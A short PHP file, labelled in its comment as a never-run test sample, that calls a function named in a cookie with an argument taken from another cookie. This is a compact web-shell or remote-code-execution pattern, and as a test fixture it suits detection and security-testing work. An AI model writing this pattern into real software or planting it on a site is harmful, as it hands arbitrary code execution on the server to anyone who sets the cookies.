<?php
// Test sample (never run): the function to call and its argument both come from cookies.
$fn = $_COOKIE['f'] ?? null;
$arg = $_COOKIE['a'] ?? null;
if ($fn && $arg) {
    call_user_func($fn, $arg);
}
